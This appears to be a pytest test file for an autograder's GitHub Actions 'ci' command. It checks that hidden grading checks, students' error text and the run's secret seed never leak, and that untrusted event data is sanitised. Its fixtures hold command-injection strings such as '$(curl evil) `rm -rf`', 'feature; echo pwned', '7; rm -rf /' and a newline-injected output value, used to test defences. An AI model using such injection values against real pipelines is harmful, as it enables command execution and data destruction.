"""`python -m autograder ci`, run as a GitHub job would run it: GITHUB_STEP_SUMMARY, GITHUB_OUTPUT
and GITHUB_EVENT_PATH point at temporary files. Nothing it writes (comment, summary, JSON, stdout)
names a hidden check, shows what the student's code raised in one, or holds the run's secret; a
hidden check's diagnosis reaches the student unless grading.yml withholds it.

The stubs run is the real command line (a subprocess, as the runner starts it); the runs whose
property is what ci writes for a rubric or a submission run the same command in this process, in the
session's fork server (tests/in_process.py)."""
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from in_process import run_command

from autograder.authoring.stubs import HINTS
from autograder.deploy import ghactions

ROOT = Path(__file__).resolve().parents[1]
SOLUTIONS = ROOT / "solutions" / "ch03"
STUBS = ROOT / "assignments" / "ch03"
SHA = "0123456789abcdef0123456789abcdef01234567"
SEED = "987654321987654321"  # the run's secret, given with --seed: it must appear nowhere
HINT = "return exp(x) divided by the sum of exp(x)"  # the stub's own NotImplementedError text (softmax_naive)


def hidden_check_names():
    rubric = yaml.safe_load((ROOT / "grading.yml").read_text())
    default = (rubric.get("defaults") or {}).get("visibility", "visible")
    names = []
    for spec in rubric["parts"].values():
        for check, value in spec["checks"].items():
            visibility = value.get("visibility", spec.get("visibility", default)) if isinstance(value, dict) \
                else spec.get("visibility", default)
            if visibility != "visible":
                names.append(check)
    return names


def run_ci(tmp_path, submission, event, *extra, rubric=None, engine=None):
    """`ci` as a GitHub job runs it: a subprocess, or (engine: the session's) in this process with the
    same arguments and environment, grading in the engine's fork server (tests/in_process.py)."""
    github = tmp_path / "github"
    github.mkdir()
    (github / "event.json").write_text(json.dumps(event))
    env = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
    env.update(GITHUB_ACTIONS="true", GITHUB_EVENT_NAME="pull_request" if "pull_request" in event else "push",
               GITHUB_EVENT_PATH=str(github / "event.json"), GITHUB_OUTPUT=str(github / "output"),
               GITHUB_STEP_SUMMARY=str(github / "summary.md"), GITHUB_SHA="f" * 40)
    (github / "output").write_text("earlier=1\n")  # the runner's file may hold earlier steps' lines: append only
    out = tmp_path / "out"
    command = [sys.executable, "-m", "autograder", "ci", str(submission),
               "--json", str(out / "results.json"), "--comment", str(out / "comment.md"), *extra]
    if rubric:
        command += ["--rubric", str(rubric)]
    if engine is None:
        done = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=600)
    else:
        done = subprocess.CompletedProcess(command, *run_command(engine, command[3:], env))
    files = {"output": github / "output", "summary": github / "summary.md",
             "json": out / "results.json", "comment": out / "comment.md"}
    return done, {k: p.read_text() if p.exists() else None for k, p in files.items()}


def unescaped(markdown):
    """Markdown as a reader sees the text: backslash escapes taken away."""
    return re.sub(r"\\(.)", r"\1", markdown)


def outputs(text):
    return dict(line.split("=", 1) for line in text.splitlines() if "=" in line)


@pytest.fixture(scope="module")
def stubs_run(tmp_path_factory):
    event = {"pull_request": {"number": 42, "title": "$(curl evil) `rm -rf` <!-- x -->",
                              "head": {"sha": SHA, "ref": "feature; echo pwned"}}}
    return run_ci(tmp_path_factory.mktemp("ci-stubs"), STUBS, event, "--fail-under", "0.5", "--seed", SEED)


def test_stubs_score_lines_summary_and_comment(stubs_run):
    done, files = stubs_run
    assert done.returncode == 1, done.stderr  # --fail-under 0.5 and a score of 0: status 1, files still written
    lines = outputs(files["output"])
    assert lines["earlier"] == "1" and float(lines["score"]) == 0 and float(lines["max_score"]) > 0
    assert lines["passed"] == "false"
    results = json.loads(files["json"])
    assert results["score"] == 0 and results["max_score"] == float(lines["max_score"])
    assert "| part | score |" in files["summary"] and "Chapter 3 score: 0 /" in files["summary"]
    comment = files["comment"]
    assert comment.startswith(ghactions.COMMENT_MARKER + "\n")
    assert "pull request #42" in comment and f"commit {SHA[:12]}" in comment
    assert "| part | score |" in comment and "not implemented yet" in comment
    # only the number and the sha are taken from the event
    assert "curl" not in comment and "pwned" not in comment and "<!-- x" not in comment


def test_stubs_run_names_no_hidden_check(stubs_run):
    done, files = stubs_run
    hidden = hidden_check_names()
    assert hidden, "grading.yml has no hidden check"
    for name in hidden:
        for where, text in (("comment", files["comment"]), ("summary", files["summary"]),
                            ("results.json", files["json"]), ("stdout", done.stdout)):
            assert name not in text, f"hidden check {name} named in the {where}"
    results = json.loads(files["json"])
    anonymous = [t for t in results["tests"] if t["visibility"] != "visible"]
    # a hidden check keeps its diagnosis (the grader's words), never the student's own error text
    assert anonymous and all(": hidden check " in t["name"] for t in anonymous)
    # after a hidden input which stub raised is the child's choice: the fixed words, named only by what the
    # grader itself called (a module's function or class, from its own request: issue 37.6)
    assert all(t["output"] == "not implemented yet" or t["output"].removeprefix("not implemented yet: ") in HINTS
               for t in anonymous), anonymous[:2]
    visible = [t for t in results["tests"] if t["visibility"] == "visible"]
    softmax = [t for t in visible if t["name"] == "simple_attention: softmax_naive_book_example"]
    assert softmax and "your error: NotImplementedError: simple_attention.softmax_naive: " + HINT in softmax[0]["output"]
    assert "hidden check" in files["comment"]  # "causal: 13 hidden checks (-19): not implemented yet: ..."
    assert "not implemented yet: causal.CausalAttention" in unescaped(files["comment"])


def test_the_runs_secret_is_in_no_output(stubs_run):
    done, files = stubs_run
    for where, text in list(files.items()) + [("stdout", done.stdout), ("stderr", done.stderr)]:
        assert SEED not in (text or ""), f"the seed is in the {where}"
    assert "seed" not in json.loads(files["json"])["extra_data"]


def test_the_job_log_is_the_graders_lines_only(stubs_run):
    """Every line ci prints starts with the grader's prefix (or is its own annotation): no student
    text can begin a line of the job log, where the runner reads workflow commands."""
    done, _ = stubs_run
    lines = done.stdout.splitlines()
    assert lines and all(line.startswith("  | ") or line.startswith("::warning::") for line in lines), lines[:5]
    assert "  | total" in done.stdout and "not implemented yet" in done.stdout


def all_hidden_rubric(tmp_path, diagnosis=None):
    """grading.yml with every check hidden (and, given diagnosis, each check's diagnosis set to it)."""
    rubric = yaml.safe_load((ROOT / "grading.yml").read_text())
    rubric.setdefault("defaults", {})["visibility"] = "hidden"
    for spec in rubric["parts"].values():
        spec.pop("visibility", None)
        for check, value in list(spec["checks"].items()):
            if isinstance(value, dict):
                value.pop("visibility", None)
            if diagnosis:
                points = value.get("points", 0) if isinstance(value, dict) else value
                spec["checks"][check] = {"points": points, "diagnosis": diagnosis} if points is not None else \
                    {"diagnosis": diagnosis}
    path = tmp_path / "grading.yml"
    path.write_text(yaml.safe_dump(rubric, sort_keys=False))
    return path


def test_every_check_hidden_shows_diagnoses_only(engine, tmp_path):
    """With every check hidden, the comment, summary, JSON and log give each part's diagnosis, without
    a check name or the student's own error text."""
    done, files = run_ci(tmp_path, STUBS, {"after": SHA}, rubric=all_hidden_rubric(tmp_path), engine=engine)
    assert done.returncode == 0, done.stderr
    for where, text in (("comment", unescaped(files["comment"])), ("summary", unescaped(files["summary"])),
                        ("results.json", files["json"]), ("stdout", done.stdout)):
        # hidden checks: the fixed words, named only by what the grader called, never by which stub the child
        # raised (issue 37.6: tests/test_hidden_messages.py varies the raised name with the hidden input)
        assert "not implemented yet" in text, f"no diagnosis in the {where}"
        named = re.findall(r"not implemented yet: ([\w.]+)", text)
        assert all(name.rstrip(".") in HINTS for name in named), (where, named)
        assert HINT not in text and "NotImplementedError" not in text, f"the student's own text in the {where}"
        assert "softmax_naive_book_example" not in text, f"a check named in the {where}"
    assert f"commit {SHA[:12]}" in files["comment"] and "pull request" not in files["comment"]


def test_withheld_diagnoses_reach_no_student(engine, tmp_path):
    """`diagnosis: withheld` on every (hidden) check: comment, summary, JSON and log hold scores and
    "hidden check failed", nothing the checks found."""
    done, files = run_ci(tmp_path, STUBS, {"after": SHA}, rubric=all_hidden_rubric(tmp_path, "withheld"),
                         engine=engine)
    assert done.returncode == 0, done.stderr
    for where, text in (("comment", files["comment"]), ("summary", files["summary"]),
                        ("results.json", files["json"]), ("stdout", done.stdout)):
        assert "not implemented" not in text and "NotImplementedError" not in text, f"a diagnosis in the {where}"
        assert "hidden check failed" in text, where
    assert {t["output"] for t in json.loads(files["json"])["tests"]} == {"hidden check failed"}


def test_solutions_get_full_marks_and_pass(engine, tmp_path):
    done, files = run_ci(tmp_path, SOLUTIONS, {"after": SHA}, engine=engine)
    assert done.returncode == 0, done.stderr
    lines = outputs(files["output"])
    assert lines["score"] == lines["max_score"] and lines["passed"] == "true"
    assert "What to fix" not in files["comment"] and "hidden check" not in files["comment"]
    assert all(line.startswith("  | ") for line in done.stdout.splitlines())


def test_a_missing_path_is_a_usage_error(tmp_path):
    done = subprocess.run([sys.executable, "-m", "autograder", "ci", str(tmp_path / "nope")],
                          cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and "no such file" in done.stderr


# --- the helpers, without grading --------------------------------------------------------

@pytest.mark.quick
def test_event_context_takes_only_a_number_and_a_sha(tmp_path):
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"number": "7; rm -rf /", "head": {"sha": "abc$(id)"}},
                                 "after": SHA.upper()}))
    context = ghactions.event_context({"GITHUB_EVENT_PATH": str(event), "GITHUB_SHA": SHA})
    assert context["pr"] is None and context["sha"] == SHA  # the upper-case 'after' is not a git sha either
    event.write_text("not json")
    assert ghactions.event_context({"GITHUB_EVENT_PATH": str(event)})["sha"] is None
    assert ghactions.event_context({})["pr"] is None


@pytest.mark.quick
def test_comment_quiets_mentions_and_stays_under_githubs_limit():
    body = ghactions.comment_body("raised ValueError: ping @octocat " + "x" * 70000, {"pr": 3, "sha": None})
    assert "@octocat" not in body and "@\u200boctocat" in body
    assert len(body) < 65536 and body.startswith(ghactions.COMMENT_MARKER)


def test_outputs_are_single_lines(tmp_path):
    output = tmp_path / "out"
    ghactions.write_outputs({"GITHUB_OUTPUT": str(output)}, score="3\ninjected=1", max_score=5)
    assert outputs(output.read_text()) == {"score": "3", "max_score": "5"}
